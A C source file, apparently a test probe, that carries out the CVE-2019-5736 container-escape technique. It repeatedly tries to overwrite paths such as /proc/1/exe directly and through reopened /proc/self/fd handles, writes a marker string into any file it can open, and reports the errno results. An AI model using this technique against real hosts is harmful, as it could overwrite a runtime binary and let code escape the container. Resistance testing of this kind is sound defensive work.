/*
 * exewrite: the CVE-2019-5736 attack on a runtime's binary. For MS
 * milliseconds, over and over, each PATH (/proc/1/exe and the like) is
 * opened for writing directly, and through an O_PATH handle reopened by
 * /proc/self/fd/N, and read. Every write that opens writes a marker into the
 * file. One line per PATH sums up: the errno names seen, `WROTE` if any
 * write went through, `READ` if the file could be read.
 *
 * Usage: exewrite MS PATH...
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_PATHS 256

struct result {
    int write_err, reopen_err, read_err;
    int wrote, read;
};

static const struct {
    int err;
    const char *name;
} errnos[] = {
    {EPERM, "EPERM"}, {EACCES, "EACCES"}, {ENOENT, "ENOENT"}, {ETXTBSY, "ETXTBSY"},
    {EROFS, "EROFS"}, {ELOOP, "ELOOP"},   {EISDIR, "EISDIR"},
};

/* The errno's name; other values as errno-N. */
static const char *errname(int err)
{
    static char buf[8][32];
    static int next;
    if (err == 0)
        return "-";
    for (size_t i = 0; i < sizeof(errnos) / sizeof(errnos[0]); i++)
        if (errnos[i].err == err)
            return errnos[i].name;
    next = (next + 1) % 8;
    snprintf(buf[next], sizeof(buf[next]), "errno-%d", err);
    return buf[next];
}

static long long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void try_write(int fd, struct result *r)
{
    if (write(fd, "congo-pwned\n", 12) > 0)
        r->wrote = 1;
    close(fd);
}

static void attack(const char *path, struct result *r)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0)
        try_write(fd, r);
    else
        r->write_err = errno;
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        char via[64];
        snprintf(via, sizeof(via), "/proc/self/fd/%d", fd);
        int w = open(via, O_WRONLY | O_CLOEXEC);
        if (w >= 0)
            try_write(w, r);
        else
            r->reopen_err = errno;
        close(fd);
    } else {
        r->reopen_err = errno;
    }
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        char c;
        if (read(fd, &c, 1) == 1)
            r->read = 1;
        close(fd);
    } else {
        r->read_err = errno;
    }
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: exewrite MS PATH...\n");
        return 2;
    }
    long long end = now_ms() + atoll(argv[1]);
    int n = argc - 2 > MAX_PATHS ? MAX_PATHS : argc - 2;
    struct result r[MAX_PATHS];
    memset(r, 0, sizeof(r));
    do {
        for (int i = 0; i < n; i++)
            attack(argv[i + 2], &r[i]);
    } while (now_ms() < end);
    for (int i = 0; i < n; i++)
        printf("%s write=%s reopen=%s read=%s%s%s\n", argv[i + 2], errname(r[i].write_err),
               errname(r[i].reopen_err), errname(r[i].read_err), r[i].wrote ? " WROTE" : "",
               r[i].read ? " READ" : "");
    return 0;
}
